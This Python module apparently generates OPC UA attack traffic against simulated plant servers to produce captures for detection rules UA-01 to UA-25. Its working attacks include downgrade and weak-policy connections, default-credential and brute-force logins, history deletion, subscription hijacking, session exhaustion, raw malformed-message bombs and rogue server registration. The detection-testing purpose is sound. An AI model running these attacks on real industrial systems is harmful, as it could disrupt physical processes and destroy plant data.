"""The OPC UA detections that have no capture of their own: by asyncua, and by hand what no stack would send.

Benign twin: mes and historian at their daily work, in the lead-in of this very capture.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import struct
import tempfile
import time
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

from asyncua import Client, ua
from asyncua.crypto.security_policies import SecurityPolicyBasic256, SecurityPolicyBasic256Sha256
from asyncua.ua import MessageSecurityMode

from ..plan import UA_USERS, machine
from ..plant.pki import identity
from ..plant.ua_client import client
from ..plant.ua_names import LINE, PORT, SKID, START_BATCH, node_id
from .base import Act, Attack, Text, text

Do = Callable[[Client], Awaitable[object]]


def _session(station: str, server: str, user: str | None, do: Do) -> Callable[[], None]:
    async def work() -> None:
        async with client(machine(station), server, user) as session:
            await do(session)

    return lambda: asyncio.run(work())


async def _quiet(doing: Awaitable[object]) -> None:
    """A refusal is on the wire; what the client makes of it does not matter."""
    try:
        await asyncio.wait_for(doing, 6)
    except Exception as refused:  # noqa: BLE001
        print("set_opcua:", type(refused).__name__, refused)


async def _look(session: Client) -> None:
    await session.get_node(node_id(f"{LINE}.ActualSpeed")).read_value()


async def _look_skid(session: Client) -> None:
    await session.get_node(node_id(f"{SKID}.Temperature")).read_value()


async def _walk(session: Client) -> None:
    """From the root folder down, as UaExpert does when somebody unfolds everything."""
    waiting, seen = [session.nodes.root], 0
    while waiting and seen < 260:
        node = waiting.pop(0)
        seen += 1
        waiting += await node.get_children()


async def _bad_value(session: Client) -> None:
    value = ua.DataValue(
        ua.Variant(120.0, ua.VariantType.Double),
        ua.StatusCode(ua.StatusCodes.BadSensorFailure),
        SourceTimestamp=datetime(2001, 1, 1),
    )
    await _quiet(session.get_node(node_id(f"{LINE}.SpeedSetpoint")).write_value(value))


async def _call(session: Client) -> None:
    order = [ua.Variant(1, ua.VariantType.Int64), ua.Variant(9999, ua.VariantType.Int64)]
    await session.get_node(node_id(LINE)).call_method(node_id(START_BATCH), *order)
    server_configuration = session.get_node(ua.NodeId(12637, 0))
    await _quiet(server_configuration.call_method(ua.NodeId(12740, 0)))


async def _edit(session: Client) -> None:
    folder = None
    with contextlib.suppress(Exception):
        folder = await session.nodes.objects.add_folder(ua.NodeId("Extra", 2), "2:Extra")
    if folder is not None:
        await _quiet(session.delete_nodes([folder]))


async def _history(session: Client) -> None:
    details = ua.DeleteRawModifiedDetails()
    details.NodeId = node_id(f"{LINE}.FillLevel")
    details.StartTime, details.EndTime = datetime(2026, 1, 1), datetime(2026, 1, 2)
    parameters = ua.HistoryUpdateParameters()
    parameters.HistoryUpdateDetails = [details]
    await _quiet(session.uaclient.history_update(parameters))


async def _suppress(session: Client) -> None:
    foreign = ua.TransferSubscriptionsParameters()
    foreign.SubscriptionIds = [1, 2, 3]
    await _quiet(session.uaclient.transfer_subscriptions(foreign))
    await _quiet(session.uaclient.delete_subscriptions([1, 2, 3]))


async def _faults(session: Client) -> None:
    for number in range(25):
        await _quiet(session.get_node(node_id(f"{LINE}.Guess{number}")).read_value())


async def _resources() -> None:
    async with contextlib.AsyncExitStack() as stack:
        for _ in range(14):
            made = client(machine("intruder"), "ua-skid2", "lineop")
            await stack.enter_async_context(made)


async def _brute() -> None:
    for number in range(7):
        made = client(machine("intruder"), "ua-line", "lineop")
        made.set_password(f"guess-{number}")
        await _quiet(made.connect())
        await _quiet(made.disconnect())


async def _default_user() -> None:
    made = client(machine("historian"), "ua-line", "lineop")
    made.set_user("admin")
    made.set_password("admin")
    await _quiet(made.connect())
    await _quiet(made.disconnect())


async def _clear_password() -> None:
    made = client(machine("historian"), "ua-skid1", "historian")
    made._encrypt_password = lambda password, policy_uri: (password.encode(), None)  # what a careless client sends
    await _quiet(made.connect())
    await _quiet(made.disconnect())


async def _weak_policy() -> None:
    made, own, peer = client(machine("historian"), "ua-line", "historian"), identity(machine("historian")), identity(machine("ua-line"))
    await made.set_security(
        SecurityPolicyBasic256, certificate=own.certificate, private_key=own.key, server_certificate=peer.certificate, mode=MessageSecurityMode.Sign
    )
    await _quiet(made.connect())
    await _quiet(made.disconnect())


def _bad_certificate() -> None:
    """Expired, of 1024 bits, and for another application."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(65537, 1024)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "old laptop")])
    end = datetime.now(UTC) - timedelta(days=400)
    uri = x509.SubjectAlternativeName([x509.UniformResourceIdentifier("urn:somebody:else")])
    made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(7)
    made = made.not_valid_before(end - timedelta(days=365)).not_valid_after(end).add_extension(uri, critical=False)
    with tempfile.TemporaryDirectory() as folder:
        certificate, private = Path(folder) / "certificate.der", Path(folder) / "key.pem"
        certificate.write_bytes(made.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER))
        form = serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        private.write_bytes(key.private_bytes(serialization.Encoding.PEM, *form))

        async def work() -> None:
            session = client(machine("historian"), "ua-line", "historian")
            await session.set_security(
                SecurityPolicyBasic256Sha256,
                certificate=certificate,
                private_key=private,
                server_certificate=identity(machine("ua-line")).certificate,
                mode=MessageSecurityMode.SignAndEncrypt,
            )
            await _quiet(session.connect())
            await _quiet(session.disconnect())

        asyncio.run(work())


class Raw:
    """A channel without protection, message by message."""

    def __init__(self, server: str, buffer: int = 65535) -> None:
        host = machine(server).ip
        self.socket = socket.create_connection((host, PORT), timeout=3)
        url = f"opc.tcp://{host}:{PORT}".encode()
        self.send(b"HELF", struct.pack("<IIIIII", 0, buffer, buffer, 0, 0, len(url)) + url)
        self.number, self.channel, self.token = 1, 0, 0
        with contextlib.suppress(OSError):
            self.socket.recv(4096)

    def send(self, kind: bytes, body: bytes) -> None:
        self.socket.sendall(kind + struct.pack("<I", len(body) + 8) + body)

    def open(self) -> None:
        policy = b"http://opcfoundation.org/UA/SecurityPolicy#None"
        header = struct.pack("<II", 0, len(policy)) + policy + struct.pack("<ii", -1, -1)
        request = _request(446) + struct.pack("<IIIiI", 0, 0, 1, -1, 600_000)
        self.send(b"OPNF", header + struct.pack("<II", self.number, self.number) + request)
        answer = self.socket.recv(4096)
        at = answer.index(b"\x01\x00\xc1\x01") + 4 + 8 + 4 + 4 + 1 + 4 + 3 + 4
        self.channel, self.token = struct.unpack_from("<II", answer, at)

    def message(self, body: bytes, kind: bytes = b"MSGF", step: int = 1, request: int | None = None) -> None:
        self.number += step
        self.send(kind, struct.pack("<IIII", self.channel, self.token, self.number, request or self.number) + body)

    def close(self) -> None:
        self.socket.close()


def _request(service: int) -> bytes:
    """Type id and request header of a request outside of every session."""
    return struct.pack("<BBH", 1, 0, service) + struct.pack("<BBqIIiI", 0, 0, 0, 1, 0, -1, 5000) + b"\0\0\0"


def _chunks() -> None:
    raw = Raw("ua-skid2")
    raw.open()
    with contextlib.suppress(OSError):
        for _ in range(400):
            raw.message(_request(631) + bytes(32), b"MSGC", request=50)
        for number in range(12):
            raw.message(struct.pack("<II", 0x80080000, 0xFFFFFFFF), b"MSGA", request=100 + number)
        time.sleep(0.5)
    raw.close()


def _bomb() -> None:
    """A Write whose value is a Variant in a Variant, 150 deep; a Read of four thousand million nodes."""
    for body in (
        _request(673) + struct.pack("<IBBHIi", 1, 1, 0, 1, 13, -1) + b"\x01" + b"\x98\x01\0\0\0" * 150 + b"\x06\x01\0\0\0",
        _request(631) + struct.pack("<dII", 0.0, 3, 0x7FFFFFFF),
    ):
        raw = Raw("ua-skid2")
        raw.open()
        with contextlib.suppress(OSError):
            raw.message(body)
            time.sleep(0.5)
        raw.close()


def _sequence() -> None:
    raw = Raw("ua-skid2")
    raw.open()
    with contextlib.suppress(OSError):
        for step in (1, 500, 1, -200, 1):
            raw.message(_request(428) + struct.pack("<iii", -1, 0, 0), step=step)
            time.sleep(0.2)
    raw.close()


async def _register() -> None:
    made = client(machine("intruder"), "ua-line", None)

    async def work() -> None:
        await made.connect_sessionless()
        server = ua.RegisteredServer(ServerUri="urn:rogue:server", ProductUri="urn:rogue", ServerType=ua.ApplicationType.Server, IsOnline=True)
        server.ServerNames = [ua.LocalizedText("rogue")]
        server.DiscoveryUrls = ["opc.tcp://10.20.0.200:4840"]
        await made.uaclient.register_server(server)
        await made.disconnect_sessionless()

    await _quiet(work())


def _act(detection: str, name: str, actor: str, server: str, what: Text, run: Callable[[], None], tool: str = "asyncua") -> Act:
    return Act(name, actor, server, what, tool, "tcp.port == 4840", run, detection=detection)


def _go(work: Callable[[], Awaitable[None]]) -> Callable[[], None]:
    return lambda: asyncio.run(work())


ATTACK = Attack(
    "opcua",
    text("对 OPC UA 服务器的多种攻击", "Attacks of many kinds on OPC UA servers"),
    (
        _act("UA-11", "downgrade", "historian", "ua-line", text("一向加密的历史数据服务器改用不加密通道", "The historian, always encrypted so far, connects without protection"), _session("historian", "ua-line", "historian", _look)),
        _act("UA-03", "weak-policy", "historian", "ua-line", text("请求使用已废弃的安全策略 Basic256", "The outdated policy Basic256 is asked for"), _go(_weak_policy)),
        _act("UA-09", "certificate", "historian", "ua-line", text("使用过期的 1024 位证书", "An expired certificate of 1024 bits is used"), _bad_certificate),
        _act("UA-06", "clear-password", "historian", "ua-skid1", text("明文发送密码", "A password goes in clear"), _go(_clear_password)),
        _act("UA-07", "default-user", "historian", "ua-line", text("尝试默认账号 admin", "The default account admin is tried"), _go(_default_user)),
        _act("UA-02", "no-protection", "hmi-water", "ua-skid1", text("操作员站以不加密会话访问清洗站", "The operator station opens an unprotected session"), _session("hmi-water", "ua-skid1", "lineop", _look_skid)),
        _act("UA-01", "new-client", "eng", "ua-line", text("新的客户端应用连接产线控制器", "A client application never seen connects to the line controller"), _session("eng", "ua-line", "lineop", _look)),
        _act("UA-13", "walk", "eng", "ua-line", text("从根目录遍历地址空间", "The address space is walked from the root folder"), _session("eng", "ua-line", "lineop", _walk)),
        _act("UA-15", "bad-value", "mes", "ua-line", text("写入带坏质量和旧时间戳的设定值", "A set point is written with bad quality and an old time stamp"), _session("mes", "ua-line", "mes", _bad_value)),
        _act("UA-16", "call", "eng", "ua-line", text("调用此前未用过的方法", "Methods are called that this client never called"), _session("eng", "ua-line", "engineer", _call)),
        _act("UA-17", "edit", "eng", "ua-line", text("增删地址空间节点", "Nodes are added and deleted"), _session("eng", "ua-line", "engineer", _edit)),
        _act("UA-18", "history", "eng", "ua-line", text("删除历史数据", "History is deleted"), _session("eng", "ua-line", "engineer", _history)),
        _act("UA-19", "suppress", "eng", "ua-line", text("转移和删除他人的订阅", "Subscriptions of others are transferred and deleted"), _session("eng", "ua-line", "engineer", _suppress)),
        _act("UA-20", "faults", "eng", "ua-line", text("逐一猜测节点，均被拒绝", "Nodes are guessed one by one and refused"), _session("eng", "ua-line", "lineop", _faults)),
        _act("UA-08", "brute", "intruder", "ua-line", text("新设备反复猜测密码", "A new device guesses passwords"), _go(_brute)),
        _act("UA-22", "resources", "intruder", "ua-skid2", text("一台设备打开 14 个会话", "One machine opens 14 sessions"), _go(_resources)),
        _act("UA-24", "sequence", "intruder", "ua-skid2", text("消息序号跳变", "Sequence numbers jump"), _sequence, "scripted"),
        _act("UA-21", "chunks", "intruder", "ua-skid2", text("大量没有结尾的分块", "A flood of chunks without an end"), _chunks, "scripted"),
        _act("UA-23", "bomb", "intruder", "ua-skid2", text("嵌套 150 层的变量和谎报长度的数组", "A variant 150 deep, and an array whose length lies"), _bomb, "scripted"),
        _act("UA-25", "register", "intruder", "ua-line", text("登记一台不存在的服务器", "A server that does not belong here is registered"), _go(_register)),
    ),
    also=("NET-01", "NET-06", "UA-01", "UA-02", "UA-04", "UA-05", "UA-12", "UA-13", "UA-14", "UA-16", "UA-20", "UA-22", "UA-24", "COR-01", "COR-02"),
)
